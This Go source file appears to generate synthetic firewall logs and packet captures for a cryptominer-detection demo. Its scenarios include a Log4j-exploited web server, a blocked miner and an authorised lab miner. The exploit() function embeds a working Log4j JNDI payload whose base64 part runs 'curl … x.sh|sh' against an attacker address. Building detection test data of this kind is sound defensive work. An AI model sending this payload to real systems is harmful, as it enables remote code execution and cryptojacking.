package main

import (
	"net/netip"
	"time"
)

// The demo day: Tuesday 9 June 2026, firewall clock in UTC.
var day = time.Date(2026, 6, 9, 0, 0, 0, 0, time.UTC)

func at(hh, mm, ss, ms int) time.Time {
	return day.Add(time.Duration(hh)*time.Hour + time.Duration(mm)*time.Minute +
		time.Duration(ss)*time.Second + time.Duration(ms)*time.Millisecond)
}

func ap(s string) netip.AddrPort { return netip.MustParseAddrPort(s) }
func ip(s string) netip.Addr     { return netip.MustParseAddr(s) }

// The cast. Internal hosts are RFC 1918; the company's own public
// addresses are documentation addresses; pools and the attacker have
// ordinary public addresses.
var (
	webProd03  = ip("10.20.30.40")   // exploited web server: the clear miner
	webProd04  = ip("10.20.30.41")   // its twin: same miner over TLS (blast radius)
	ws77       = ip("10.20.31.77")   // Windows workstation: blocked miner
	devWS15    = ip("10.20.40.15")   // developer workstation: false positive
	ethNode    = ip("10.20.50.9")    // the blockchain team's Geth node
	labHost    = ip("10.60.1.10")    // research lab: authorised miner
	dnsServer  = ip("10.20.0.53")    // internal resolver
	egressNAT  = ip("203.0.113.10")  // source NAT for the Internet
	webVIP     = ip("203.0.113.30")  // published address of web-prod-03
	supportXMR = ip("45.9.148.21")   // pool.supportxmr.com
	moneroOcn  = ip("141.95.72.19")  // gulf.moneroocean.stream
	nanopool   = ip("51.255.34.118") // xmr-eu1.nanopool.org
	attacker   = ip("80.94.95.227")  // exploit source and staging server
	msGraph    = ip("52.113.194.132")
	github     = ip("140.82.121.4")
)

func init() {
	countries[supportXMR] = "Netherlands"
	countries[moneroOcn] = "France"
	countries[nanopool] = "France"
	countries[attacker] = "Romania"
	countries[msGraph] = "United States"
	countries[github] = "Germany"
}

// Miner identities.
const (
	agentLinux   = "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.3.0"
	agentWindows = "XMRig/6.21.0 (Windows NT 10.0; Win64; x64) libuv/1.44.2 msvc/2019"
	agentLab     = "XMRig/6.22.2 (Linux x86_64) libuv/1.48.0 gcc/13.2.0"
	labWorker    = "research-lab-01"
)

const base64Chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

// dns logs and captures one lookup through the internal resolver.
func (c *demoCase) dns(cp *capture, t time.Time, client netip.Addr, name string, answer netip.Addr) {
	cl := netip.AddrPortFrom(client, c.port(client, client == ws77))
	srv := netip.AddrPortFrom(dnsServer, 53)
	q, a := dnsExchange(cp, t, cl, srv, uint16(c.r.u32()), name, []netip.Addr{answer}, 300)
	s := c.newSession(t, cl, srv, "udp", "dns", "Any-to-DNS", "")
	c.traffic = append(c.traffic, &trafficRow{s: s, end: t.Add(30 * time.Second), subtype: "end", action: "allow",
		endReason: "aged-out", bytesSent: q, bytesRecv: a, pktsSent: 1, pktsRecv: 1, elapsed: 0})
}

// clearMiner is scenario 1: web-prod-03, exploited through Log4j, runs
// XMRig against pool.supportxmr.com:3333 in the clear; the firewall only
// alerts. Its twin web-prod-04 mines over TLS and raises no alert.
func (c *demoCase) clearMiner() {
	c.exploit()
	m := &miner{login: c.r.moneroAddress(), pass: "x", agent: agentLinux, style: styleNodejsPool,
		extensions:  []string{"algo", "nicehash", "connect", "tls", "keepalive"},
		jobIDs:      func(r *prng) string { return r.pick(base64Chars, 28) },
		firstTarget: "b88d0600", target: "9e170100", shareMean: 90 * time.Second, jobMean: 120 * time.Second,
		rtt: 18 * time.Millisecond, height: 3693417, seed: c.r.hex(64)}
	pool := netip.AddrPortFrom(supportXMR, 3333)
	cp := &capture{from: at(6, 51, 55, 0), to: at(7, 12, 0, 0)}
	type run struct {
		start, end time.Time
		byServer   bool // the pool reset the session
		capture    bool
	}
	runs := []run{
		{at(6, 41, 7, 310), at(6, 44, 39, 0), false, false},   // the attacker's test run, stopped by hand
		{at(6, 52, 4, 118), at(11, 23, 9, 0), true, true},     // hours of mining until the pool resets it
		{at(11, 23, 14, 406), at(15, 2, 37, 0), false, false}, // XMRig reconnects 5 s later; ends at the reboot
	}
	c.dns(cp, at(6, 41, 7, 280), webProd03, "pool.supportxmr.com", supportXMR)
	c.dns(cp, at(6, 51, 58, 640), webProd03, "pool.supportxmr.com", supportXMR)
	for i, rn := range runs {
		var k *tcpConn
		client := netip.AddrPortFrom(webProd03, c.port(webProd03, false))
		s := c.newSession(rn.start, client, pool, "tcp", "json-rpc", "DMZ-Web-Outbound", "")
		if rn.capture {
			k = newTCPConn(cp, c.r, client, pool)
		} else {
			k = newTCPConn(nil, c.r, client, pool)
		}
		t := k.handshake(rn.start, m.rtt)
		last := m.mine(k, c.r, t, rn.end)
		label := []string{"1a", "1", "1b"}[i]
		c.threat(s, t.Add(2*time.Millisecond), label, "spyware", "XMRig Miner Command and Control Traffic Detection(85886)",
			"critical", "cryptominer", "alert")
		reason := "tcp-fin"
		if rn.byServer {
			k.rst(rn.end, false)
			reason = "tcp-rst-from-server"
		} else {
			k.close(maxTime(last, rn.end), true, m.rtt)
		}
		c.trafficFromConn(s, k, "allow", reason)
	}
	c.files["xmrig-miner.pcap"] = pcapFile(cp.sorted())
	c.blastRadius(m)
}

func maxTime(a, b time.Time) time.Time {
	if a.After(b) {
		return a
	}
	return b
}

// exploit is how web-prod-03 was compromised: a Log4j exploit from the
// Internet (a non-miner THREAT the importer skips) and the download of
// XMRig from the same address a minute later.
func (c *demoCase) exploit() {
	t := at(6, 38, 41, 903)
	client := netip.AddrPortFrom(attacker, 41622)
	s := c.newSession(t, client, netip.AddrPortFrom(webVIP, 80), "tcp", "web-browsing", "Inbound-Web-Publish", "")
	// Destination NAT: the log keeps the published address as destination,
	// the server as NAT destination, and the zone after translation.
	s.natDst = netip.AddrPortFrom(webProd03, 8080)
	s.dstZone, s.outIf, _ = zoneOf(webProd03)
	k := newTCPConn(nil, c.r, client, s.dst)
	k.handshake(t, 41*time.Millisecond)
	req := "GET /api/v2/status HTTP/1.1\r\nHost: 203.0.113.30\r\nUser-Agent: ${jndi:ldap://80.94.95.227:1389/Basic/Command/Base64/Y3VybCAtcyBodHRwOi8vODAuOTQuOTUuMjI3OjgwMDAveC5zaHxzaA==}\r\nAccept: */*\r\n\r\n"
	k.send(t.Add(42*time.Millisecond), true, []byte(req), 30*time.Millisecond)
	k.send(t.Add(160*time.Millisecond), false, []byte("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 15\r\n\r\n{\"status\":\"up\"}"), 40*time.Millisecond)
	k.close(t.Add(230*time.Millisecond), true, 41*time.Millisecond)
	th := c.threat(s, t.Add(43*time.Millisecond), "x", "vulnerability", "Apache Log4j Remote Code Execution Vulnerability(91991)",
		"critical", "code-execution", "alert")
	th.url = "203.0.113.30/api/v2/status"
	th.useragent = "${jndi:ldap://80.94.95.227:1389/Basic/Command/Base64/Y3VybCAtcyBodHRwOi8vODAuOTQuOTUuMjI3OjgwMDAveC5zaHxzaA==}"
	c.trafficFromConn(s, k, "allow", "tcp-fin")

	// The payload fetches x.sh, which fetches the XMRig release tarball.
	t = at(6, 39, 30, 214)
	dl := c.newSession(t, netip.AddrPortFrom(webProd03, c.port(webProd03, false)), netip.AddrPortFrom(attacker, 8000),
		"tcp", "web-browsing", "DMZ-Web-Outbound", "")
	c.traffic = append(c.traffic, &trafficRow{s: dl, end: t.Add(9 * time.Second), subtype: "end", action: "allow",
		endReason: "tcp-fin", bytesSent: 3412, bytesRecv: 3247611, pktsSent: 61, pktsRecv: 2253, elapsed: 8})
}

// blastRadius: web-prod-04 runs the same miner to the same pool over TLS
// (port 9000). App-ID sees ssl, so there is no THREAT row: only the
// traffic log shows a second internal host talking to the pool.
func (c *demoCase) blastRadius(m *miner) {
	pool := netip.AddrPortFrom(supportXMR, 9000)
	spans := [][2]time.Time{{at(7, 14, 22, 95), at(12, 40, 10, 0)}, {at(12, 40, 15, 512), at(16, 30, 44, 0)}}
	for i, sp := range spans {
		client := netip.AddrPortFrom(webProd04, c.port(webProd04, false))
		s := c.newSession(sp[0], client, pool, "tcp", "ssl", "DMZ-Web-Outbound", "")
		k := newTCPConn(nil, c.r, client, pool)
		t := k.handshake(sp[0], m.rtt)
		// TLS handshake: ClientHello, server flight, client finished.
		t = k.send(t, true, make([]byte, 517), 0)
		t = k.send(t.Add(m.rtt), false, make([]byte, 4321), m.rtt/2)
		t = k.send(t, true, make([]byte, 80), 0)
		last := m.mine(k, c.r, t, sp[1])
		reason := "tcp-rst-from-server"
		if i == 1 {
			k.close(maxTime(last, sp[1]), true, m.rtt)
			reason = "tcp-fin"
		} else {
			k.rst(sp[1], false)
		}
		c.trafficFromConn(s, k, "allow", reason)
	}
}

// blockedMiner is scenario 2: a Windows workstation whose XMRig retries
// gulf.moneroocean.stream:10128 in bursts of five, 5 s apart (XMRig's
// retries: 5, retry-pause: 5), then a minute of quiet. The first burst
// gets through the handshake, sends its login and is reset by the
// signature (reset-both); then a SOAR playbook blocks the pool and every
// later SYN is refused by policy.
func (c *demoCase) blockedMiner() {
	cp := &capture{from: at(8, 15, 0, 0), to: at(8, 17, 30, 0)}
	c.dns(cp, at(8, 15, 2, 871), ws77, "gulf.moneroocean.stream", moneroOcn)
	pool := netip.AddrPortFrom(moneroOcn, 10128)
	login := c.r.moneroAddress()
	rtt := 27 * time.Millisecond
	start := at(8, 15, 3, 5)
	for burst := 0; burst < 20; burst++ {
		for try := 0; try < 5; try++ {
			t := start.Add(time.Duration(burst)*80*time.Second + time.Duration(try)*5*time.Second + c.r.dur(0, 40*time.Millisecond))
			client := netip.AddrPortFrom(ws77, c.port(ws77, true))
			if burst == 0 {
				s := c.newSession(t, client, pool, "tcp", "json-rpc", "Users-Internet", `corp\m.keller`)
				k := newTCPConn(cp, c.r, client, pool)
				t = k.handshake(t, rtt)
				t = k.send(t.Add(c.r.dur(time.Millisecond, 3*time.Millisecond)), true,
					[]byte(loginMsg(login, "x", agentWindows, "", algosXMRig6)), 0)
				k.rst(t.Add(400*time.Microsecond), false)
				c.threat(s, t.Add(300*time.Microsecond), "2", "spyware", "XMRig Miner Command and Control Traffic Detection(85886)",
					"critical", "cryptominer", "reset-both")
				c.trafficFromConn(s, k, "reset-both", "threat")
				continue
			}
			s := c.newSession(t, client, pool, "tcp", "not-applicable", "SOAR-Block-Mining-Pools", `corp\m.keller`)
			k := newTCPConn(cp, c.r, client, pool)
			k.syn(t)
			sent, pkts := k.bytesC, k.pktsC
			k.rst(t.Add(180*time.Microsecond), false) // the firewall's reset-client, not counted as received
			c.traffic = append(c.traffic, &trafficRow{s: s, end: t.Add(c.r.dur(100*time.Millisecond, 600*time.Millisecond)),
				subtype: "deny", action: "reset-client", endReason: "policy-deny", bytesSent: sent, pktsSent: pkts})
		}
	}
	c.files["blocked-miner.pcapng"] = pcapngFile(cp.sorted(), "ens192", "span of the Users VLAN, 10.20.31.77 only")
}

// authorizedMiner is scenario 4: the research lab's sanctioned XMRig run
// to xmr-eu1.nanopool.org:10300, worker research-lab-01, 08:00–16:00.
func (c *demoCase) authorizedMiner() (wallet string) {
	m := &miner{login: c.r.moneroAddress() + "." + labWorker, pass: "x", agent: agentLab, style: styleMiningcore,
		jobIDs:      func(r *prng) string { return r.pick("0123456789", 15) },
		firstTarget: "711b0d00", target: "711b0d00", shareMean: 25 * time.Second, jobMean: 100 * time.Second,
		rtt: 24 * time.Millisecond, height: 3693481, seed: c.r.hex(64)}
	wallet = m.login[:95]
	cp := &capture{from: at(7, 59, 58, 0), to: at(8, 6, 0, 0)}
	c.dns(cp, at(7, 59, 59, 412), labHost, "xmr-eu1.nanopool.org", nanopool)
	pool := netip.AddrPortFrom(nanopool, 10300)
	client := netip.AddrPortFrom(labHost, c.port(labHost, false))
	start := at(8, 0, 0, 37)
	s := c.newSession(start, client, pool, "tcp", "json-rpc", "Research-Lab-Mining-Exception", `corp\svc-research`)
	k := newTCPConn(cp, c.r, client, pool)
	t := k.handshake(start, m.rtt)
	last := m.mine(k, c.r, t, at(16, 0, 12, 0))
	c.threat(s, t.Add(2*time.Millisecond), "4", "spyware", "XMRig Miner Command and Control Traffic Detection(85886)",
		"critical", "cryptominer", "alert")
	k.close(maxTime(last, at(16, 0, 12, 0)), true, m.rtt)
	c.trafficFromConn(s, k, "allow", "tcp-fin")
	raw := pcapFile(cp.sorted())
	c.files["authorized-miner.pcap.gz"] = gzipped(raw, "authorized-miner.pcap")
	return wallet
}

// background adds ordinary traffic of the same hosts, so the pair views
// are not the only thing in the logs.
func (c *demoCase) background() {
	rows := []struct {
		t       time.Time
		src     netip.Addr
		dst     netip.AddrPort
		app     string
		up, dn  uint64
		secs    int64
		user    string
		windows bool
	}{
		{at(7, 58, 12, 0), ws77, netip.AddrPortFrom(msGraph, 443), "ms-office365", 18734, 96211, 312, `corp\m.keller`, true},
		{at(9, 2, 40, 0), devWS15, netip.AddrPortFrom(github, 443), "github-base", 9921, 1488203, 41, `corp\a.osei`, false},
		{at(10, 47, 5, 0), devWS15, netip.AddrPortFrom(github, 443), "github-base", 4410, 220874, 12, `corp\a.osei`, false},
		{at(13, 31, 18, 0), ws77, netip.AddrPortFrom(msGraph, 443), "ms-office365", 7302, 40912, 95, `corp\m.keller`, true},
	}
	for _, b := range rows {
		s := c.newSession(b.t, netip.AddrPortFrom(b.src, c.port(b.src, b.windows)), b.dst, "tcp", b.app, "Users-Internet", b.user)
		c.traffic = append(c.traffic, &trafficRow{s: s, end: b.t.Add(time.Duration(b.secs) * time.Second), subtype: "end",
			action: "allow", endReason: "tcp-fin", bytesSent: b.up, bytesRecv: b.dn,
			pktsSent: b.up/900 + 6, pktsRecv: b.dn/1400 + 5, elapsed: b.secs})
	}
}
